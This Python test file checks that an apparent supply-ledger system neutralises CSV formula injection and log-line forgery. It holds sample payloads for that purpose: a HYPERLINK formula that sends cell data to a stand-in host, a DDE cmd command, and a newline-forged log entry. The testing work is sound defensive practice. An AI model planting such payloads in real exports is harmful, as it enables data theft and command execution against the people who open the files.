"""Outputs that carry outside text: the ledger CSV cannot run a formula, a log line cannot be forged."""

from __future__ import annotations

import copy
import csv
import io
import subprocess
import sys
import uuid
from datetime import date
from zoneinfo import ZoneInfo

from edge import ledger
from edge.journal import Journal
from edge.matching.rules import decide
from edge.matching.types import Policy
from edge.orders.model import observation_from_json, orders_from_doc
from edge.records import Measurement, line_event
from testbed.demo_data import demo_orders
from tests.test_core_cli import DAY, OBS

HOSTILE = {"name": '=HYPERLINK("http://x.example/?"&A1,"点此")', "address": "+1+cmd|' /C calc'!A0",
           "contact": "@SUM(1+1)", "license_no": "-2+3"}


def test_ledger_cells_cannot_be_formulas(journal: Journal) -> None:
    doc = copy.deepcopy(demo_orders("test-station-01", DAY))  # its suppliers are shared
    doc["orders"][0]["supplier"].update(HOSTILE)
    orders = orders_from_doc(doc)
    obs = observation_from_json(OBS | {"batch": "\tB1", "production_date": "2026-11-27",
                                       "temperature_c": "-18.5"})
    order = orders[obs.order_id]
    kind, body = line_event(order, obs, decide(order, obs, Policy()),
                            Measurement(net_g=obs.net_g, stable=True, protocol="ad", raw="x"),
                            delivery_id=str(uuid.uuid4()), clip_id=None)
    journal.append(kind, body)
    day = journal.clock.now()[:10]
    text = ledger.to_csv(list(ledger.rows(journal.db, date.fromisoformat(day), ZoneInfo("UTC"))))
    (row,) = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert row["供货者名称"] == "'" + HOSTILE["name"]
    assert row["供货者地址"] == "'" + HOSTILE["address"]
    assert row["联系方式"] == "'" + HOSTILE["contact"]
    assert row["许可证号"] == "'" + HOSTILE["license_no"]
    assert row["批号"] == "'\tB1"
    assert row["温度(℃)"] == "-18.5", "a plain negative number stays a number"
    for value in row.values():
        assert not value.startswith(("=", "+", "@", "\t", "\r")), value


def test_cell() -> None:
    assert [ledger.cell(v) for v in ("=1", "-1", "-1.5", "-1-1", "a=b", None, 15900, "\r=1")] == \
        ["'=1", "-1", "-1.5", "'-1-1", "a=b", "", "15900", "'\r=1"]


FORGE = "abc\n2026-11-28 06:00:00,000 INFO sync.uplink acked seq=99"


def test_a_newline_in_a_value_cannot_forge_a_log_line() -> None:
    code = f"""
import logging
from core import log
log.setup()
lg = logging.getLogger("sync.uplink")
log.kv(lg, logging.WARNING, "unexpected correlation data", correlation={FORGE!r}, x="\\x1b[2J")
log.kv(lg, logging.WARNING, {FORGE!r})
try:
    raise ValueError({FORGE!r})
except ValueError:
    lg.exception("ack handler failed")
"""
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=30)
    lines = r.stderr.splitlines()
    assert len(lines) == 3, lines
    assert all(" WARNING sync.uplink " in ln or " ERROR sync.uplink " in ln for ln in lines)
    assert "correlation=\"abc\\n2026-11-28" in lines[0] and "\x1b" not in r.stderr
    assert "exc=\"Traceback" in lines[2]
